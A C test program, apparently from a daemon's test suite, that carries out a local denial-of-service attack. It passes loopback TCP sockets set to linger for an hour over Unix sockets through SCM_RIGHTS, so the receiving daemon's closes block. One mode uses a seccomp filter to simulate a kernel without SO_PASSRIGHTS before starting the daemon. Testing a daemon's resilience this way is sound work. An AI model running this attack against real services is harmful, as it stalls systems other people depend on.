/* SPDX-License-Identifier: BSD-2-Clause */
/* linger VERIFY CONTROL N attack - connects N times to each socket, and passes on each connection a
 * TCP socket whose close takes an hour. Half of the connections then end, the others stay silent.
 * Prints "attacked" and stays until it is killed. Exit status 77 where the kernel refuses to pass
 * it.
 *
 * linger VERIFY CONTROL N serve DAEMON [OPTION]... - does the same before the daemon first runs,
 * and then becomes the DAEMON as systemd starts it by socket activation, on a kernel without
 * SO_PASSRIGHTS. */
#include <errno.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/time.h>
#include <sys/un.h>
#include <unistd.h>

#define PASSRIGHTS 83 /* SO_PASSRIGHTS */

static void check(bool good, const char *what) {
        if (good)
                return;
        perror(what);
        exit(errno == EPERM ? 77 : EXIT_FAILURE);
}

/* A connection in this process that nobody reads. */
static int make_slow(void) {
        struct sockaddr_in sa = { .sin_family = AF_INET,
                                  .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
        const struct linger linger = { .l_onoff = 1, .l_linger = 3600 };
        const int small = 4096;
        socklen_t len = sizeof(sa);
        char bytes[65536] = {};
        int listener = socket(AF_INET, SOCK_STREAM, 0), slow = socket(AF_INET, SOCK_STREAM, 0);

        (void) setsockopt(listener, SOL_SOCKET, SO_RCVBUF, &small, sizeof(small));
        (void) setsockopt(slow, SOL_SOCKET, SO_SNDBUF, &small, sizeof(small));
        check(bind(listener, (struct sockaddr *) &sa, len) == 0 && listen(listener, 1) == 0 &&
                      getsockname(listener, (struct sockaddr *) &sa, &len) == 0 &&
                      connect(slow, (struct sockaddr *) &sa, len) == 0 &&
                      accept(listener, NULL, NULL) >= 0,
              "loopback");
        (void) close(listener);
        while (send(slow, bytes, sizeof(bytes), MSG_DONTWAIT) > 0)
                continue;
        check(setsockopt(slow, SOL_SOCKET, SO_LINGER, &linger, sizeof(linger)) == 0, "SO_LINGER");
        return slow;
}

static void pass(int fd, int passed) {
        union {
                struct cmsghdr header;
                char bytes[CMSG_SPACE(sizeof(int))];
        } control = { .header = { .cmsg_len = CMSG_LEN(sizeof(int)),
                                  .cmsg_level = SOL_SOCKET,
                                  .cmsg_type = SCM_RIGHTS } };
        char byte = '\0';
        struct iovec iov = { .iov_base = &byte, .iov_len = 1 };
        const struct msghdr message = { .msg_iov = &iov,
                                        .msg_iovlen = 1,
                                        .msg_control = &control,
                                        .msg_controllen = sizeof(control) };

        memcpy(CMSG_DATA(&control.header), &passed, sizeof(passed));
        /* A connection that was silent for long may have ended. */
        check(sendmsg(fd, &message, MSG_NOSIGNAL) == 1 || errno == EPIPE || errno == ECONNRESET,
              "sendmsg");
        (void) close(passed);
}

static struct sockaddr_un address_of(const char *path) {
        struct sockaddr_un sa = { .sun_family = AF_UNIX };

        (void) snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", path);
        return sa;
}

static void attack(const char *path, int type, unsigned n) {
        const struct sockaddr_un sa = address_of(path);

        for (unsigned i = 0; i < n; i++) {
                int fd = socket(AF_UNIX, type, 0), slow = make_slow();

                check(connect(fd, (const struct sockaddr *) &sa, sizeof(sa)) == 0, path);
                pass(fd, slow);
                if (i % 2 == 0)
                        (void) close(fd);
        }
}

static void on_alarm(int number) {
        (void) number;
}

/* The daemon may have ended the connection before this process closes its own reference. Then that
 * is the last one, and takes the hour. Nothing but a signal interrupts it. */
static void interrupt_every(suseconds_t usec) {
        const struct sigaction action = { .sa_handler = on_alarm, .sa_flags = SA_RESTART };
        const struct itimerval timer = { .it_interval.tv_usec = usec, .it_value.tv_usec = usec };

        check(sigaction(SIGALRM, &action, NULL) == 0 && setitimer(ITIMER_REAL, &timer, NULL) == 0,
              "setitimer");
}

static void attack_both(char *argv[], unsigned n) {
        interrupt_every(20000);
        attack(argv[1], SOCK_SEQPACKET, n);
        attack(argv[2], SOCK_STREAM, n);
        interrupt_every(0);
}

static void listen_at(const char *path, int type, int fd) {
        const struct sockaddr_un sa = address_of(path);
        int made = socket(AF_UNIX, type, 0);

        (void) unlink(path);
        check(made >= 0 && bind(made, (const struct sockaddr *) &sa, sizeof(sa)) == 0 &&
                      listen(made, 4096) == 0 && (made == fd || dup2(made, fd) == fd),
              path);
        if (made != fd)
                (void) close(made);
}

/* Any level: no other option of that number is used. */
static void forbid_passrights(void) {
        struct sock_filter code[] = {
                BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
                BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_setsockopt, 1, 0),
                BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_getsockopt, 0, 3),
                BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[2])),
                BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, PASSRIGHTS, 0, 1),
                BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | ENOPROTOOPT),
                BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
        };
        const struct sock_fprog program = { .len = sizeof(code) / sizeof(*code), .filter = code };

        check(prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) == 0 &&
                      prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program) == 0,
              "seccomp");
}

static int serve(char *argv[], unsigned n) {
        char pid[16], byte;
        int done[2];

        check(pipe(done) == 0 && dup2(done[0], 10) == 10 && dup2(done[1], 11) == 11, "pipe");
        listen_at(argv[1], SOCK_SEQPACKET, 3);
        listen_at(argv[2], SOCK_STREAM, 4);
        /* Another process, which ends with the daemon: this one must not hold what it passes. */
        if (fork() == 0) {
                check(prctl(PR_SET_PDEATHSIG, SIGKILL) == 0, "prctl");
                attack_both(argv, n);
                check(write(11, "x", 1) == 1, "write");
                (void) pause();
        }
        (void) close(11);
        check(read(10, &byte, 1) == 1, "the attack");
        (void) close(10);
        (void) snprintf(pid, sizeof(pid), "%d", (int) getpid());
        check(setenv("LISTEN_PID", pid, 1) == 0 && setenv("LISTEN_FDS", "2", 1) == 0, "setenv");
        forbid_passrights();
        (void) execv(argv[5], argv + 5);
        return EXIT_FAILURE;
}

int main(int argc, char *argv[]) {
        const struct rlimit files = { .rlim_cur = 4096, .rlim_max = 4096 };
        unsigned n;

        if (argc < 5 || setrlimit(RLIMIT_NOFILE, &files) < 0)
                return EXIT_FAILURE;
        n = (unsigned) strtoul(argv[3], NULL, 10);
        if (strcmp(argv[4], "serve") == 0)
                return argc > 5 ? serve(argv, n) : EXIT_FAILURE;
        attack_both(argv, n);
        puts("attacked");
        (void) fflush(stdout);
        (void) pause();
        return EXIT_SUCCESS;
}
